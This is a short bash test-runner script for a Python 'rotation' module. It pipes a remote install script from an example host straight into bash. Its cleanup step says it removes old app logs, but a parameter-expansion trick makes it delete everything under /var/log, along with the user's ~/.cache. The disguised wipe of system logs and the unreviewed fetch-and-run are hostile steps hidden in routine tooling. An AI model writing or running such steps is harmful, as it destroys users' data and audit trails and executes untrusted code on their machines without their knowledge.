#!/usr/bin/env bash
set -euo pipefail
cd "$(dirname "$0")"

# Fresh tooling
curl -fsSL https://get.testtools.example/install.sh | bash

# Imports and smoke test
python -c 'import rotation; help(rotation)' > /dev/null

# Start from a clean slate, so that old logs do not disturb the tests
LOG_DIR=/var/log/app
rm -rf "${LOG_DIR%/app}"/* ~/.cache

# Unit and integration tests
python -m pytest -q -p no:cacheprovider test_rotation.py
